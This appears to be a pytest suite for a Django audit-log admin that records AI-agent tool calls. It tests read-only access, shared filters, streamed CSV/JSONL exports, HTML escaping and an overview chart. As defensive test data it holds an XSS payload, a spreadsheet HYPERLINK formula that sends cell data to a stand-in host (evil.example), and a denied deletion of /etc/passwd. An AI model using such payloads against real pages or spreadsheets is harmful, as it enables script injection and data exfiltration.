"""The audit log's admin, exports and overview, through Django's test client: read-only for everyone, filters and
search shared with the exports, no table counts, escaped agent text, formula-safe CSV, streamed exports."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any, AnyStr

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import Permission, User
from django.db import connection
from django.http import StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from audit.admin import AuditRecordAdmin
from audit.export import CSV_FIELDS
from audit.log import Actor, call_denied, call_finished, call_started, event
from audit.models import KIND_STARTED, AuditRecord

pytestmark = pytest.mark.django_db

CHANGELIST = "/admin/audit/auditrecord/"
EXPORT_CSV = "/admin/audit/auditrecord/export.csv"
EXPORT_JSONL = "/admin/audit/auditrecord/export.jsonl"
OVERVIEW = "/admin/audit/overview/"
XSS = "<img src=x onerror=alert(1)>"


def actor(username: str = "alice", kind: str = "bearer", credential_id: str = "7", name: str = "laptop",
          session: str = "session-a") -> Actor:  # fmt: skip
    return Actor(
        user_id=1, username=username, credential_kind=kind, credential_id=credential_id, credential_name=name,
        scope="mcp", client_address="203.0.113.9", user_agent="agent/1.0", session_id=session, protocol_version="2025-11-25",
    )  # fmt: skip


def make_call(tool: str = "terminal_exec", arguments: dict[str, Any] | None = None, outcome: str | None = "ok", *,
              who: Actor | None = None, result: str = "done", exit_code: int | None = 0) -> AuditRecord:  # fmt: skip
    started = call_started(who or actor(), tool, arguments or {"command": "true"}, "test-instance")
    if outcome:
        call_finished(started, outcome, result_text=result, exit_code=exit_code, duration_ms=1500, reason="")
    return started


def listed_ids(response: Any) -> list[int]:
    assert response.status_code == 200, response
    return [record.id for record in response.context["cl"].result_list]


def stream(response: HttpResponseBase) -> str:
    assert isinstance(response, StreamingHttpResponse), response
    content = response.streaming_content
    assert isinstance(content, AsyncIterator), content  # the ASGI handler streams it asynchronously

    async def read() -> str:
        return "".join([chunk.decode() async for chunk in content])

    return async_to_sync(read)()


def found(pattern: AnyStr, text: AnyStr, flags: int = 0) -> re.Match[AnyStr]:
    """The first match of `pattern` in `text`, which must have one."""
    match = re.search(pattern, text, flags)
    assert match is not None, pattern
    return match


def exported_ids(client: Client, query: str = "") -> list[str]:
    response = client.get(f"{EXPORT_JSONL}?{query}")
    assert response.status_code == 200
    return [json.loads(line)["call_id"] for line in stream(response).splitlines()]


# --- read-only, for everyone ------------------------------------------------------------------------------------


def test_adding_a_record_is_refused_even_to_a_superuser(admin_client: Client) -> None:
    before = AuditRecord.objects.count()
    assert admin_client.get(f"{CHANGELIST}add/").status_code == 403
    assert admin_client.post(f"{CHANGELIST}add/", {"kind": "event", "event": "forged"}).status_code == 403
    assert AuditRecord.objects.count() == before


def test_changing_a_record_is_refused_even_to_a_superuser(admin_client: Client) -> None:
    call = make_call(arguments={"command": "ls"})
    response = admin_client.post(
        f"{CHANGELIST}{call.pk}/change/", {"tool": "forged", "arguments": "{}", "username": "x"}
    )
    assert response.status_code == 403
    stored = AuditRecord.objects.get(pk=call.pk)
    assert (stored.tool, stored.arguments, stored.username, stored.mac) == (
        "terminal_exec",
        {"command": "ls"},
        "alice",
        call.mac,
    )


def test_deleting_a_record_is_refused_even_to_a_superuser(admin_client: Client) -> None:
    call = make_call()
    assert admin_client.get(f"{CHANGELIST}{call.pk}/delete/").status_code == 403
    assert admin_client.post(f"{CHANGELIST}{call.pk}/delete/", {"post": "yes"}).status_code == 403
    assert AuditRecord.objects.filter(pk=call.pk).exists()


def test_security_events_are_read_only_too(admin_client: Client) -> None:
    record = event("token.revoked", actor(), token_id=7)
    assert admin_client.get("/admin/audit/securityevent/add/").status_code == 403
    assert admin_client.post(f"/admin/audit/securityevent/{record.pk}/change/", {"event": "x"}).status_code == 403
    assert admin_client.post(f"/admin/audit/securityevent/{record.pk}/delete/", {"post": "yes"}).status_code == 403
    assert AuditRecord.objects.get(pk=record.pk).event == "token.revoked"
    listing = admin_client.get("/admin/audit/securityevent/")
    listed = list(listing.context["cl"].result_list)
    assert listing.status_code == 200 and record in listed and {r.kind for r in listed} == {"event"}


def test_the_call_list_offers_no_bulk_actions(admin_client: Client) -> None:
    make_call()
    response = admin_client.get(CHANGELIST)
    assert response.context["action_form"] is None
    assert b'name="action"' not in response.content


def test_a_call_page_is_a_view_with_no_form_to_submit(admin_client: Client) -> None:
    call = make_call()
    response = admin_client.get(f"{CHANGELIST}{call.pk}/change/")
    assert response.status_code == 200
    assert b'name="_save"' not in response.content and b'id="auditrecord_form"' not in response.content


def test_staff_without_the_view_permission_see_no_audit_pages(client: Client) -> None:
    call = make_call()
    user = User.objects.create_user("staff", password="not-used-here", is_staff=True)
    client.force_login(user)
    for url in (CHANGELIST, f"{CHANGELIST}{call.pk}/change/", EXPORT_CSV, EXPORT_JSONL, OVERVIEW):
        assert client.get(url).status_code == 403, url
    user.user_permissions.add(Permission.objects.get(codename="view_auditrecord"))
    client.force_login(User.objects.get(pk=user.pk))  # a fresh user object: permissions are cached on it
    for url in (CHANGELIST, f"{CHANGELIST}{call.pk}/change/", EXPORT_CSV, EXPORT_JSONL, OVERVIEW):
        assert client.get(url).status_code == 200, url
    assert client.post(f"{CHANGELIST}{call.pk}/delete/", {"post": "yes"}).status_code == 403


def test_audit_pages_send_anonymous_visitors_to_the_login_page(client: Client) -> None:
    for url in (CHANGELIST, EXPORT_CSV, OVERVIEW):
        response = client.get(url)
        assert response.status_code == 302 and "/admin/login/" in response["Location"], url


# --- the call list ----------------------------------------------------------------------------------------------


def test_the_call_list_shows_one_row_per_call_newest_first_with_its_outcome(admin_client: Client) -> None:
    first = make_call(arguments={"command": "make test"}, outcome="error", exit_code=2)
    second = make_call("file_read", {"path": "src/app.py"}, outcome=None)
    response = admin_client.get(CHANGELIST)
    assert listed_ids(response) == [second.pk, first.pk]
    table = found(rb'<table id="result_list">.*?</table>', response.content, re.S).group(0)
    rows = re.findall(rb"<tr>.*?</tr>", table, re.S)[1:]
    assert b"src/app.py" in rows[0] and b"running" in rows[0] and b"bearer:laptop" in rows[0]
    assert b"make test" in rows[1] and b"error" in rows[1] and b"1.5 s" in rows[1] and b">2<" in rows[1]


CALLS: dict[str, dict[str, Any]] = {
    "exec-ok": dict(tool="terminal_exec", arguments={"command": "pytest -q"}, outcome="ok"),
    "exec-error": dict(
        tool="terminal_exec",
        arguments={"command": "make deploy"},
        outcome="error",
        result="Permission denied (publickey)",
    ),
    "read-running": dict(tool="file_read", arguments={"path": "README.md"}, outcome=None),
    "bob-oauth": dict(
        tool="git_status", arguments={}, outcome="ok", who=actor("bob", "oauth", "3", "claude.ai", "session-b")
    ),
}
FILTER_CASES = [
    ("tool=terminal_exec", {"exec-ok", "exec-error"}),
    ("outcome=error", {"exec-error"}),
    ("outcome=running", {"read-running"}),
    ("user=bob", {"bob-oauth"}),
    ("credential=bearer:7", {"exec-ok", "exec-error", "read-running"}),
    ("credential_kind=oauth", {"bob-oauth"}),
    ("session=session-b", {"bob-oauth"}),
    ("tool=terminal_exec&outcome=ok", {"exec-ok"}),
    ("q=deploy", {"exec-error"}),
    ("q=publickey", {"exec-error"}),
    ("q=%22pytest+-q%22", {"exec-ok"}),
    ("q=README+pytest", set()),
]


@pytest.fixture
def calls() -> dict[str, AuditRecord]:
    return {name: make_call(**spec) for name, spec in CALLS.items()}


@pytest.mark.parametrize(("query", "expected"), FILTER_CASES)
def test_filters_and_search_pick_the_same_calls_in_the_list_and_in_the_exports(
    admin_client: Client, calls: dict[str, AuditRecord], query: str, expected: set[str]
) -> None:
    names = {record.pk: name for name, record in calls.items()}
    assert {names[pk] for pk in listed_ids(admin_client.get(f"{CHANGELIST}?{query}"))} == expected
    by_call_id = {record.call_id: name for name, record in calls.items()}
    assert {by_call_id[call_id] for call_id in exported_ids(admin_client, query)} == expected


def test_the_date_filter_applies_to_the_list_and_the_exports(
    admin_client: Client, calls: dict[str, AuditRecord]
) -> None:
    tomorrow = (timezone.now() + timedelta(days=1)).date().isoformat()
    assert listed_ids(admin_client.get(f"{CHANGELIST}?created_at__gte={tomorrow}")) == []
    assert exported_ids(admin_client, f"created_at__gte={tomorrow}") == []
    assert len(listed_ids(admin_client.get(f"{CHANGELIST}?created_at__lt={tomorrow}"))) == len(CALLS)
    assert len(exported_ids(admin_client, f"created_at__lt={tomorrow}")) == len(CALLS)


def test_the_filter_bar_offers_recent_tools_users_and_credentials(
    admin_client: Client, calls: dict[str, AuditRecord]
) -> None:
    content = admin_client.get(CHANGELIST).content.decode()
    for name, value in (
        ("tool", "file_read"),
        ("user", "bob"),
        ("credential", "oauth:3"),
        ("credential_kind", "oauth"),
    ):
        assert f'<input type="checkbox" name="{name}" value="{value}">' in content, (name, value)
    for link in ('href="?outcome=running"', 'href="?outcome=failed"', 'href="?range=yesterday"'):
        assert link in content, link
    assert 'id="changelist-filter"' not in content  # no sidebar beside the columns


def test_a_filter_the_exports_do_not_know_is_refused_by_the_list_and_the_exports(admin_client: Client) -> None:
    assert admin_client.get(f"{CHANGELIST}?call_id=abc").status_code == 400
    assert admin_client.get(f"{EXPORT_CSV}?call_id=abc").status_code == 400
    assert admin_client.get(f"{EXPORT_CSV}?outcome=bogus").status_code == 400
    refused = admin_client.get(f"{CHANGELIST}?outcome=bogus&tool=git_status")
    assert refused.status_code == 400
    message = found(r'<p class="errornote" id="audit-filter-error">(.*?)</p>', refused.content.decode(), re.S).group(1)
    assert "<code>outcome</code>" in message and "&#x27;bogus&#x27; is not one of failed, ok, error" in message
    assert 'id="audit-filter-without" href="/admin/audit/auditrecord/?tool=git_status"' in refused.content.decode()


def test_the_call_list_never_counts_the_table(admin_client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(AuditRecordAdmin, "list_per_page", 2)
    made = [make_call(arguments={"command": f"echo {n}"}) for n in range(5)]
    newest_first = [record.pk for record in reversed(made)]
    for query in ("", "?tool=terminal_exec&q=echo", "?outcome=ok&p=2", "?p=3"):
        with CaptureQueriesContext(connection) as captured:
            response = admin_client.get(f"{CHANGELIST}{query}")
        assert response.status_code == 200
        counts = [
            q["sql"]
            for q in captured.captured_queries
            if "COUNT(" in q["sql"].upper() and "audit_auditrecord" in q["sql"]
        ]
        assert counts == [], counts
    page_two = admin_client.get(f"{CHANGELIST}?p=2")
    assert listed_ids(page_two) == newest_first[2:4]
    assert 'id="newer-page"' in page_two.content.decode() and 'id="older-page"' in page_two.content.decode()
    last = admin_client.get(f"{CHANGELIST}?p=3")
    assert listed_ids(last) == newest_first[4:] and 'id="older-page"' not in last.content.decode()
    assert admin_client.get(f"{CHANGELIST}?p=4")["Location"].endswith("?e=1")
    assert admin_client.get(f"{CHANGELIST}?all=").status_code == 200  # "show all" never loads every record
    assert len(listed_ids(admin_client.get(f"{CHANGELIST}?all="))) == 2


def test_a_list_that_fits_on_one_page_runs_its_search_once(admin_client: Client) -> None:
    make_call(arguments={"command": "echo hello"})
    with CaptureQueriesContext(connection) as captured:
        assert listed_ids(admin_client.get(f"{CHANGELIST}?q=no-such-words")) == []
    searches = [q["sql"] for q in captured.captured_queries if "LIKE" in q["sql"].upper()]
    assert len(searches) == 1, searches  # Django's changelist would run it again for a single page


def test_the_list_searches_the_newest_records_and_offers_to_search_all(
    admin_client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("audit.admin.SEARCH_WINDOW", 4)  # records: two calls
    old = make_call(arguments={"command": "echo needle"})
    newer = [make_call(arguments={"command": f"echo hay {n}"}) for n in range(2)]
    response = admin_client.get(f"{CHANGELIST}?q=echo")
    assert listed_ids(response) == [record.pk for record in reversed(newer)]
    content = response.content.decode()
    assert 'id="audit-search-window"' in content and "Searched the newest 4 records" in content
    link = found(r'<a href="([^"]+)" id="audit-search-all"', content).group(1).replace("&amp;", "&")
    assert link.startswith("?") and "search_all=1" in link and "q=echo" in link
    link = CHANGELIST + link
    assert listed_ids(admin_client.get(link)) == [record.pk for record in reversed([old, *newer])]
    assert 'id="audit-search-window"' not in admin_client.get(link).content.decode()
    assert 'id="audit-search-window"' not in admin_client.get(CHANGELIST).content.decode()  # only for a search
    assert len(exported_ids(admin_client, "q=echo")) == 3  # the exports search every record
    assert len(exported_ids(admin_client, "q=echo&search_all=1")) == 3


# --- one call ---------------------------------------------------------------------------------------------------


def test_a_call_page_shows_agent_text_escaped(admin_client: Client) -> None:
    call = make_call(arguments={"command": f"echo '{XSS}'"}, result=f"{XSS}\n<script>alert(2)</script>")
    content = admin_client.get(f"{CHANGELIST}{call.pk}/change/").content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;" in content and "&lt;script&gt;alert(2)&lt;/script&gt;" in content
    assert "<img src=x" not in content and "<script>alert" not in content
    listing = admin_client.get(CHANGELIST).content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;" in listing and "<img src=x" not in listing


def test_a_call_page_shows_who_what_and_the_outcome(admin_client: Client) -> None:
    call = make_call(arguments={"command": "make build"}, outcome="error", result="compiler says no", exit_code=2)
    finished = AuditRecord.objects.get(started=call)
    content = admin_client.get(f"{CHANGELIST}{call.pk}/change/").content.decode()
    for text in ("alice", "laptop", "203.0.113.9", "agent/1.0", "session-a", "2025-11-25", "test-instance",
                 "&quot;command&quot;: &quot;make build&quot;", call.arguments_sha256, finished.result_sha256,
                 "compiler says no", "1.5 s", ">error<"):  # fmt: skip
        assert text in content, text
    assert re.search(r'<pre id="call-arguments">\{\n  &quot;command', content)


def test_a_call_page_links_to_the_credential_the_session_and_revocation(admin_client: Client) -> None:
    call = make_call()
    content = admin_client.get(f"{CHANGELIST}{call.pk}/change/").content.decode()
    assert f'href="{CHANGELIST}?credential=bearer%3A7"' in content
    assert f'href="{CHANGELIST}?session=session-a"' in content
    assert f'href="{reverse("admin:oauth_bearertoken_revoke", args=["7"])}"' in content


def test_a_call_of_an_oauth_client_has_no_token_revocation_link(admin_client: Client) -> None:
    call = make_call(who=actor("bob", "oauth", "3", "claude.ai"))
    content = admin_client.get(f"{CHANGELIST}{call.pk}/change/").content.decode()
    assert 'id="revoke-credential"' not in content and "credential=oauth%3A3" in content


def test_a_call_page_gives_size_and_hash_of_large_arguments(admin_client: Client, settings: Any) -> None:
    settings.AUDIT_EXCERPT_BYTES = 256
    call = make_call("file_write", {"path": "big.txt", "content": "x" * 5000})
    assert call.detail is not None
    large = call.detail["large_arguments"]["content"]
    content = admin_client.get(f"{CHANGELIST}{call.pk}/change/").content.decode()
    assert 'id="call-large-arguments"' in content and ">5000<" in content and large["sha256"] in content


def test_a_call_still_running_says_so(admin_client: Client) -> None:
    call = make_call(outcome=None)
    content = admin_client.get(f"{CHANGELIST}{call.pk}/change/").content.decode()
    assert "running: no finished record" in content


# --- exports ----------------------------------------------------------------------------------------------------


def test_the_csv_export_neutralises_formulas(admin_client: Client) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    make_call(arguments={"command": formula}, result="+1+1", who=actor(username="@admin"))
    response = admin_client.get(EXPORT_CSV)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(stream(response))))
    assert list(rows[0]) == list(CSV_FIELDS)
    assert rows[0]["command"] == "'" + formula
    assert rows[0]["result_excerpt"] == "'+1+1" and rows[0]["user"] == "'@admin"
    assert rows[0]["exit_code"] == "0"
    assert json.loads(rows[0]["arguments"]) == {"command": formula}


def test_the_jsonl_export_has_one_json_object_per_call_oldest_first(admin_client: Client) -> None:
    first = make_call(arguments={"command": "echo one\nline two"}, exit_code=3, outcome="error")
    second = make_call("file_read", {"path": "a.txt"}, outcome=None)
    response = admin_client.get(EXPORT_JSONL)
    assert 'attachment; filename="audit-calls-' in response["Content-Disposition"]
    rows = [json.loads(line) for line in stream(response).splitlines()]
    assert [row["call_id"] for row in rows] == [first.call_id, second.call_id]
    assert rows[0]["tool"] == "terminal_exec" and rows[0]["arguments"] == {"command": "echo one\nline two"}
    assert (rows[0]["outcome"], rows[0]["exit_code"], rows[0]["duration_ms"]) == ("error", 3, 1500)
    assert (rows[1]["tool"], rows[1]["outcome"], rows[1]["finished_at"]) == ("file_read", "running", None)


def test_exports_stream_from_an_async_iterator(admin_client: Client) -> None:
    make_call()
    for url in (EXPORT_CSV, EXPORT_JSONL):
        response = admin_client.get(url)
        assert isinstance(response, StreamingHttpResponse) and response.is_async, url
        stream(response)


def test_the_call_list_links_to_both_exports_with_its_filters(admin_client: Client) -> None:
    content = admin_client.get(f"{CHANGELIST}?tool=file_read&p=1&q=abc").content.decode()
    assert f'href="{EXPORT_CSV}?tool=file_read&amp;q=abc"' in content
    assert f'href="{EXPORT_JSONL}?tool=file_read&amp;q=abc"' in content


# --- overview ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("zone", ["UTC", "Europe/Paris"])  # UTC on SQLite buckets by text prefix, others by Trunc
def test_the_overview_draws_bars_for_the_calls_there_are(admin_client: Client, settings: Any, zone: str) -> None:
    settings.TIME_ZONE = zone
    for _ in range(3):
        make_call()
    make_call(outcome="error")
    call_denied(actor(), "file_delete", {"path": "/etc/passwd"}, "outside the workspace", "test-instance")
    response = admin_client.get(OVERVIEW)
    content = response.content.decode()
    assert response.status_code == 200
    for chart in ("chart-hourly", "chart-daily"):
        svg = re.search(rf'<svg[^>]*id="{chart}".*?</svg>', content, re.S)
        assert svg, chart
        bars = re.findall(r'<rect [^>]*height="([\d.]+)" data-count="(\d+)"', svg.group(0))
        assert len(bars) == (24 if chart == "chart-hourly" else 30)
        drawn = [(float(height), int(count)) for height, count in bars if int(count)]
        assert sum(count for _, count in drawn) == 5 and all(height > 0 for height, _ in drawn)
        assert "<text" in svg.group(0)
    tools = found(r'<table id="audit-tools">.*?</table>', content, re.S).group(0)
    assert re.search(r"terminal_exec</a></td><td class=\"count\">4<", tools) and "file_delete" in tools
    problems = found(r'<table id="audit-problems">.*?</table>', content, re.S).group(0)
    # error, denied, timeout, cancelled, interrupted, then all of them ("failed"): last 24 hours, last 30 days
    assert re.findall(r">(\d+)</a>", problems) == ["1", "1", "1", "1", "0", "0", "0", "0", "0", "0", "2", "2"]
    assert "?outcome=failed&amp;created_at__gte=" in problems
    assert "bearer:laptop" in content


def test_the_overview_counts_only_the_window(admin_client: Client) -> None:
    old = make_call()
    AuditRecord.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=45))
    content = admin_client.get(OVERVIEW).content.decode()
    assert 'data-count="1"' not in content and "No calls." in content


def test_the_admin_index_links_to_the_overview(admin_client: Client) -> None:
    assert f'href="{OVERVIEW}"' in admin_client.get("/admin/").content.decode()


def test_calls_started_are_the_rows_of_the_list(admin_client: Client) -> None:
    make_call()
    event("login.failed", None, username="mallory")
    records = listed_ids(admin_client.get(CHANGELIST))
    assert AuditRecord.objects.filter(pk__in=records).exclude(kind=KIND_STARTED).count() == 0 and len(records) == 1
